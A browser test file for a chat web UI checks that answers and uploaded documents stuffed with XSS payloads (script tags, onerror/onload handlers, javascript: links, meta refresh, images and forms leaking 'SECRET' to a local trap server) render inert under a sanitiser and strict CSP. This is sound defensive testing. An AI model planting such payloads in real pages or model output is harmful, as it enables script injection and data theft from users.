"""The web UI against hostile model output, in headless Chromium against a real `alignchat serve`: an answer full
of hostile HTML/Markdown (stored through the UI's own edit-answer route, since the tiny model cannot write it)
renders as inert formatting, loads nothing from another origin and runs nothing; every response carries the
security headers; and chat, streaming, labelling, the Library tab and login all work under the
Content-Security-Policy without a single violation."""
from __future__ import annotations

import json
import sys
import threading
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

sys.path.insert(0, str(Path(__file__).parent))
from serve_support import ServerProcess, users_cli  # noqa: E402

pytestmark = pytest.mark.browser

# Runs in every page before the page's own scripts (via CDP, so the page's CSP does not apply to it):
# collect every CSP violation the page reports.
RECORD_CSP = """
window.__csp = [];
document.addEventListener('securitypolicyviolation',
  (e) => window.__csp.push(e.violatedDirective + ' ' + (e.blockedURI || 'inline')));
"""

# Elements that must never come out of rendered model or document text (the only buttons allowed are the UI's own:
# a code block's Copy, the passage panel's Close).
FORBIDDEN = ("style, form, input, button:not(.copy-code):not(.lib-close), textarea, select, option, img, picture, "
             "source, video, audio, script, noscript, iframe, frame, object, embed, svg, math, link, meta, base, "
             "details, template")


class Trap:
    """A plain HTTP server on another loopback port (another origin) that records every path requested of it."""

    def __init__(self):
        self.paths: list[str] = []
        self._lock = threading.Lock()
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                with trap._lock:
                    trap.paths.append(self.path)
                body = b"<!doctype html><title>control</title>ok"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def seen(self) -> list[str]:
        with self._lock:
            return list(self.paths)

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def hostile_markdown(trap: str) -> str:
    return f"""**bold** and *em* and `inline code`: [safe link](https://example.org/page?q=1),
[js link](javascript:window.__pwned='js-link'), [data link](data:text/html,hi), [relative link](/api/logout)
and <a href="mailto:someone@example.org">mail</a>.

- [x] done task
- [ ] open task

| left | centre |
|:-----|:------:|
| 1    | 2      |

```python
print("hello")
```

![leak-alt]({trap}/md-image.png?chat=SECRET)

<style>body {{ background: rgb(255, 0, 0) !important; }} .msg {{ display: none !important; }}</style>

<form action="{trap}/form" method="post"><input name="q" value="SECRET" autofocus onfocus="window.__pwned='focus'"><button formaction="{trap}/button">Go</button></form>

<img src="{trap}/raw-image.png?chat=SECRET">

<img src="x" onerror="window.__pwned='onerror'">

<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=">

<script>window.__pwned = 'script'</script>

<svg onload="window.__pwned='svg'"><image href="{trap}/svg-image.png"></image></svg>

<iframe src="{trap}/iframe"></iframe><object data="{trap}/object"></object><embed src="{trap}/embed">

<link rel="stylesheet" href="{trap}/style.css"><meta http-equiv="refresh" content="0; url={trap}/meta"><base href="{trap}/base/">

<p id="login-view" class="hidden" style="position:fixed;inset:0;background:red" onclick="window.__pwned='click'">styled paragraph</p>

<a href="{trap}/anchor" onclick="window.__pwned='a-click'" style="color:red" target="_self" ping="{trap}/ping">anchor text</a>

<video src="{trap}/video" poster="{trap}/poster.png"></video><details open ontoggle="window.__pwned='toggle'"><summary>summary</summary>details</details>

<textarea>SECRET-textarea</textarea>

final words
"""


def _answer_in_conversation(srv: ServerProcess, content: str) -> tuple[str, str]:
    """(conversation id, answer id): a real turn with the tiny model, then the answer replaced by `content`."""
    with httpx.Client(base_url=srv.url, timeout=120) as c:
        cid = c.post("/api/conversations", json={"title": "hostile"}).json()["id"]
        done = None
        with c.stream("POST", f"/api/conversations/{cid}/chat",
                      json={"content": "Say something", "settings": {"max_tokens": 4, "seed": 1}}) as r:
            assert r.status_code == 200
            event = None
            for line in r.iter_lines():
                if line.startswith("event:"):
                    event = line[6:].strip()
                elif line.startswith("data:") and event == "done":
                    done = json.loads(line[5:])
        assert done is not None
        mid = done["message"]["id"]
        r = c.put(f"/api/messages/{mid}", json={"content": content})
        assert r.status_code == 200 and r.json()["content"] == content
    return cid, mid


@pytest.fixture
def trap():
    t = Trap()
    yield t
    t.close()


def _watch_csp(browser):
    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": RECORD_CSP})


def _csp_console_errors(browser) -> list[str]:
    try:
        logs = browser.get_log("browser")
    except Exception:  # noqa: BLE001 - a driver without the log endpoint: the in-page recorder still checks
        return []
    return [e["message"] for e in logs if "Content Security Policy" in e["message"]]


def test_hostile_answer_renders_inert(browser, tiny_ckpt, tmp_path, trap):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as EC
    from selenium.webdriver.support.ui import WebDriverWait

    srv = ServerProcess(tiny_ckpt, tmp_path / "sec.db", "--no-embeddings").wait_ready()
    wait = WebDriverWait(browser, 120)
    try:
        cid, mid = _answer_in_conversation(srv, hostile_markdown(trap.url))
        _watch_csp(browser)
        browser.get(srv.url + "/")
        wait.until(EC.text_to_be_present_in_element((By.ID, "user-name"), "local"))
        style_before = browser.execute_script(
            "return [getComputedStyle(document.body).backgroundColor, getComputedStyle(document.body).color,"
            " getComputedStyle(document.getElementById('messages')).display]")

        browser.find_element(By.CSS_SELECTOR, f"#conv-list .conv-item[data-id='{cid}']").click()
        body_sel = f".msg.assistant[data-id='{mid}'] .body"
        wait.until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, body_sel), "final words"))
        body = browser.find_element(By.CSS_SELECTOR, body_sel)

        # nothing active survives inside the rendered answer
        assert body.find_elements(By.CSS_SELECTOR, FORBIDDEN) == []
        bad_attrs = browser.execute_script("""
            const out = [];
            for (const el of arguments[0].querySelectorAll('*'))
              for (const a of el.getAttributeNames())
                if (a.startsWith('on') || a === 'style' || a === 'id' || a === 'src' || a === 'ping' || a === 'action')
                  out.push(el.tagName + ' ' + a);
            return out;""", body)
        assert bad_attrs == []
        tags = set(browser.execute_script(
            "return [...arguments[0].querySelectorAll('*')].map(e => e.tagName.toLowerCase())", body))
        assert tags <= {"p", "br", "strong", "em", "code", "pre", "ul", "li", "table", "thead", "tbody", "tr", "th",
                        "td", "a", "span", "button"}, tags  # span: highlight.js; button: the code block's Copy
        # formatting is kept: bold, lists with the task boxes as text, the table, the highlighted code block
        assert body.find_element(By.CSS_SELECTOR, "strong").text == "bold"
        assert body.find_element(By.CSS_SELECTOR, "table th").text == "left"
        assert body.find_element(By.CSS_SELECTOR, "pre code.hljs").text.startswith('print("hello")')
        text = body.text
        assert "☑ done task" in text and "☐ open task" in text
        assert "leak-alt" in text  # a Markdown image shows as its alt text
        assert "styled paragraph" in text and "SECRET-textarea" in text  # dropped tags keep their text
        assert "window.__pwned" not in text and "background: rgb(255, 0, 0)" not in text  # script/style: no content

        # links: only http/https/mailto, in a new tab, without opener or referrer
        links = browser.execute_script("""return [...arguments[0].querySelectorAll('a')].map(
            a => [a.textContent, a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel')])""", body)
        by_text = {t: (h, tg, rel) for t, h, tg, rel in links}
        assert by_text["safe link"] == ("https://example.org/page?q=1", "_blank", "noopener noreferrer")
        assert by_text["mail"] == ("mailto:someone@example.org", "_blank", "noopener noreferrer")
        assert by_text["anchor text"] == (f"{trap.url}/anchor", "_blank", "noopener noreferrer")
        for name in ("js link", "data link", "relative link"):
            assert by_text[name][0] is None, (name, by_text[name])
        assert all(h is None or h.startswith(("https://", "http://", "mailto:")) for h, _, _ in by_text.values())

        # the page itself is untouched and nothing ran
        assert browser.execute_script(
            "return [getComputedStyle(document.body).backgroundColor, getComputedStyle(document.body).color,"
            " getComputedStyle(document.getElementById('messages')).display]") == style_before
        assert browser.find_element(By.CSS_SELECTOR, f".msg.assistant[data-id='{mid}']").is_displayed()
        assert browser.find_element(By.ID, "login-view").get_attribute("class") == "hidden"
        assert browser.execute_script("return typeof window.__pwned") == "undefined"
        assert browser.current_url.startswith(srv.url)  # no meta refresh
        # nothing reached the page for the CSP to block: Chromium's only reports (if any) come from DOMPurify's
        # inert parsing document, which inherits the page's policy, for the handlers, styles and <base> it drops
        reports = browser.execute_script("return window.__csp")
        assert all(r.endswith(" inline") or r.startswith("base-uri ") for r in reports), reports
        assert all(m.startswith(srv.url + "/static/vendor/purify.min.js") for m in _csp_console_errors(browser))
        assert not [u for u in browser.execute_script(
            "return performance.getEntriesByType('resource').map(e => e.name)") if u.startswith(trap.url)]

        # the sanitiser is also what any other rendering uses: hand it hostile HTML directly
        leftover = browser.execute_script("""
            const box = document.createElement('div');
            box.append(sanitizeHtml('<img src=x onerror="window.__pwned=1"><style>*{}</style><svg></svg>'
              + '<form><input></form><b style="color:red" onmouseover="x()">b</b><a href="javascript:alert(1)">j</a>'));
            return box.innerHTML;""")
        assert leftover == "<b>b</b><a>j</a>"

        # second wall: content that bypassed the sanitiser would still be blocked by the page's CSP
        browser.execute_script("""
            window.__csp = [];
            const s = document.createElement('script'); s.textContent = 'window.__inline = 1;';
            document.body.appendChild(s);
            const i = document.createElement('img'); i.src = arguments[0] + '/csp-wall.png';
            document.body.appendChild(i);""", trap.url)
        wait.until(lambda d: {v.split("-src")[0] for v in d.execute_script("return window.__csp")} >= {"script", "img"})
        blocked = browser.execute_script("return window.__csp")
        assert "script-src-elem inline" in blocked and f"img-src {trap.url}/csp-wall.png" in blocked, blocked
        assert browser.execute_script("return typeof window.__inline") == "undefined"

        # control: the trap does receive what a browser really asks of it; before that, it received nothing
        browser.get(trap.url + "/control")
        wait.until(lambda d: "/control" in trap.seen())
        seen = trap.seen()
        assert seen[0] == "/control", seen
        assert not [p for p in seen if p != "/control" and p != "/favicon.ico"], seen
    finally:
        srv.stop()


STRICT = {"default-src": ["'self'"], "script-src": ["'self'"], "style-src": ["'self'"], "img-src": ["'self'", "data:"],
          "font-src": ["'self'"], "connect-src": ["'self'"], "object-src": ["'none'"], "base-uri": ["'none'"],
          "form-action": ["'self'"], "frame-ancestors": ["'none'"]}


def _csp(value: str) -> dict[str, list[str]]:
    out = {}
    for part in value.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


class _Scripts(HTMLParser):
    def __init__(self):
        super().__init__()
        self.scripts, self.inline_attrs = [], []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.scripts.append(dict(attrs))
        self.inline_attrs += [f"{tag} {k}" for k, _ in attrs if k.startswith("on") or k == "style"]

    def handle_data(self, data):
        if self.lasttag == "script" and data.strip():
            self.inline_attrs.append("inline script")


def test_security_headers_on_every_response(tiny_ckpt, tmp_path):
    srv = ServerProcess(tiny_ckpt, tmp_path / "hdr.db", "--no-embeddings").wait_ready()
    try:
        with httpx.Client(base_url=srv.url, timeout=60) as c:
            responses = {
                "/": c.get("/"), "/static/app.js": c.get("/static/app.js"), "/v1/models": c.get("/v1/models"),
                "404": c.get("/api/conversations/no-such-id"),
                "400": c.post("/v1/chat/completions", content=b"{not json",
                              headers={"Content-Type": "application/json"}),
                "/health": c.get("/health"),
            }
            assert responses["/"].status_code == 200 and responses["/static/app.js"].status_code == 200
            assert responses["/v1/models"].status_code == 200
            assert responses["404"].status_code == 404 and responses["404"].json()["error"]["message"]
            assert responses["400"].status_code == 400 and responses["400"].json()["error"]["message"]
            for name, r in responses.items():
                assert r.headers["x-frame-options"] == "DENY", name
                assert r.headers["x-content-type-options"] == "nosniff", name
                assert r.headers["referrer-policy"] == "no-referrer", name
                assert _csp(r.headers["content-security-policy"]) == STRICT, name
            assert responses["/static/app.js"].headers["content-type"].startswith(("text/javascript",
                                                                                   "application/javascript"))

            # the page has no inline script, handler or style attribute for the CSP to block
            page = _Scripts()
            page.feed(responses["/"].text)
            assert page.scripts and all(s.get("src", "").startswith("/static/") for s in page.scripts)
            assert page.inline_attrs == []

            # the Swagger page alone gets its CDN and inline script; it still cannot be framed or post elsewhere
            docs = c.get("/docs")
            assert docs.status_code == 200
            policy = _csp(docs.headers["content-security-policy"])
            assert "'unsafe-inline'" in policy["script-src"] and "https://cdn.jsdelivr.net" in policy["script-src"]
            assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
            assert policy["form-action"] == ["'self'"] and policy["connect-src"] == ["'self'"]
            assert docs.headers["x-frame-options"] == "DENY"
    finally:
        srv.stop()


def hostile_document(trap: str) -> str:
    return f"""---
title: 'Coral <img src="{trap}/title.png"> Bleaching <style>body {{ background: rgb(255, 0, 0); }}</style>'
authors: ['<b onmouseover="window.__pwned=1">Mallory</b>']
year: 2019
---
# Coral Bleaching

Reef-building corals live in symbiosis with microscopic algae called zooxanthellae, which give corals their
colour. <img src="{trap}/passage.png" onerror="window.__pwned='passage'"> When sea water stays about one degree
Celsius above the usual summer maximum for several weeks, corals expel the algae and turn white.
<script>window.__pwned = 'script'</script> This is known as coral bleaching.
"""


def test_ui_works_under_the_csp(browser, tiny_ckpt, tmp_path, trap):
    """Chat with a streamed reply, labelling (sampled answers rendered), the Library tab with a hostile document
    (added, asked about, its passage opened): all of it works, nothing from the document runs or loads, and the
    page reports no CSP violation."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as EC
    from selenium.webdriver.support.ui import WebDriverWait

    srv = ServerProcess(tiny_ckpt, tmp_path / "csp.db", "--no-embeddings",
                        env={"ALIGNCHAT_HOME": str(tmp_path / "home")}).wait_ready()
    wait = WebDriverWait(browser, 120)
    try:
        _watch_csp(browser)
        browser.get(srv.url + "/")
        wait.until(EC.text_to_be_present_in_element((By.ID, "user-name"), "local"))
        browser.execute_script("""
            document.getElementById('max-tokens').value = 80;
            document.getElementById('seed').value = 1234;
            window.__seen = [];
            new MutationObserver(() => {
              const b = document.querySelector('.msg.assistant.streaming .body');
              if (b && b.textContent && window.__seen[window.__seen.length - 1] !== b.textContent)
                window.__seen.push(b.textContent);
            }).observe(document.getElementById('messages'), {subtree: true, childList: true, characterData: true});
        """)
        browser.find_element(By.ID, "composer-input").send_keys("Hello there")
        browser.find_element(By.ID, "send-btn").click()
        wait.until(lambda d: d.find_elements(By.CSS_SELECTOR, ".msg.assistant[data-id]:not([data-id=''])"))
        # the reply was shown while it streamed (how many repaints that took depends on timing, so not counted)
        seen = browser.execute_script("return window.__seen")
        assert seen and seen[0].strip(), seen
        assert browser.find_element(By.CSS_SELECTOR, ".msg.assistant[data-id] .body").text.strip()
        assert browser.find_element(By.CSS_SELECTOR, ".msg.user .body").text == "Hello there"
        # the thumbs render (the down thumb is flipped by a stylesheet class, not an inline style)
        down = browser.find_element(By.CSS_SELECTOR, ".msg.assistant .thumb-down svg")
        assert browser.execute_script("return getComputedStyle(arguments[0]).transform", down) != "none"

        # labelling mode: sample two answers; they render through the same Markdown path
        browser.find_element(By.CSS_SELECTOR, ".tab[data-tab='label']").click()
        wait.until(lambda d: d.find_element(By.ID, "label-stats").text)
        browser.execute_script("document.getElementById('max-tokens').value = 8;"
                               "document.getElementById('rank-k').value = '2';")
        browser.find_element(By.ID, "rank-prompt").send_keys("Name a colour")
        browser.find_element(By.ID, "rank-sample").click()
        wait.until(lambda d: len(d.find_elements(By.CSS_SELECTOR, "#rank-answers .rank-card")) == 2)

        # the Library tab loads its script and stylesheet; a hostile document's text is shown, never parsed
        browser.find_element(By.CSS_SELECTOR, ".tab[data-tab='library']").click()
        wait.until(EC.presence_of_element_located((By.ID, "lib-file")))
        wait.until(lambda d: d.find_element(By.ID, "lib-docs").text)
        assert browser.execute_script("return !!document.getElementById('alignchat-library-css').sheet")
        doc = tmp_path / "hostile.md"
        doc.write_text(hostile_document(trap.url))
        browser.find_element(By.ID, "lib-file").send_keys(str(doc))
        browser.find_element(By.ID, "lib-upload").click()
        wait.until(EC.text_to_be_present_in_element((By.ID, "lib-status"), ":"))
        assert "added" in browser.find_element(By.ID, "lib-status").text
        wait.until(EC.text_to_be_present_in_element((By.ID, "lib-docs"), "Coral"))
        assert "<img src=" in browser.find_element(By.ID, "lib-docs").text
        browser.find_element(By.ID, "lib-question").send_keys("Why do corals turn white when the sea gets too warm?")
        browser.find_element(By.ID, "lib-ask").click()
        wait.until(lambda d: d.find_elements(By.CSS_SELECTOR, "#lib-answer a.lib-cite"))
        browser.find_element(By.CSS_SELECTOR, "#lib-answer a.lib-cite").click()
        wait.until(EC.visibility_of_element_located((By.ID, "lib-passage")))
        wait.until(EC.text_to_be_present_in_element((By.ID, "lib-passage-text"), "zooxanthellae"))
        for region in ("lib-docs", "lib-answer", "lib-passage"):
            assert browser.find_element(By.ID, region).find_elements(By.CSS_SELECTOR, FORBIDDEN) == [], region
        assert browser.execute_script("return typeof window.__pwned") == "undefined"
        assert browser.execute_script("return getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
        assert not [u for u in browser.execute_script(
            "return performance.getEntriesByType('resource').map(e => e.name)") if u.startswith(trap.url)]

        assert browser.execute_script("return window.__csp") == []
        assert _csp_console_errors(browser) == []
        assert trap.seen() == []
    finally:
        srv.stop()


def test_login_works_under_the_csp(browser, tiny_ckpt, tmp_path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as EC
    from selenium.webdriver.support.ui import WebDriverWait

    srv = ServerProcess(tiny_ckpt, tmp_path / "login.db", "--require-login", "--no-embeddings").wait_ready()
    wait = WebDriverWait(browser, 60)
    try:
        users_cli(srv.db_url, "add", "alice", "--password-stdin", stdin="correct horse battery\n")
        _watch_csp(browser)
        browser.get(srv.url + "/")
        wait.until(EC.visibility_of_element_located((By.ID, "login-form")))
        browser.find_element(By.ID, "login-user").send_keys("alice")
        browser.find_element(By.ID, "login-pass").send_keys("wrong password")
        browser.find_element(By.CSS_SELECTOR, "#login-form button[type=submit]").click()
        wait.until(lambda d: d.find_element(By.ID, "login-error").text)
        assert browser.current_url.rstrip("/") == srv.url  # the form was handled by script, not submitted
        browser.find_element(By.ID, "login-pass").clear()
        browser.find_element(By.ID, "login-pass").send_keys("correct horse battery")
        browser.find_element(By.CSS_SELECTOR, "#login-form button[type=submit]").click()
        wait.until(EC.text_to_be_present_in_element((By.ID, "user-name"), "alice"))
        assert not browser.find_element(By.ID, "login-view").is_displayed()
        assert browser.execute_script("return window.__csp") == []
        browser.find_element(By.ID, "logout-btn").click()
        wait.until(EC.visibility_of_element_located((By.ID, "login-form")))
        assert browser.execute_script("return window.__csp") == []
        assert _csp_console_errors(browser) == []
    finally:
        srv.stop()
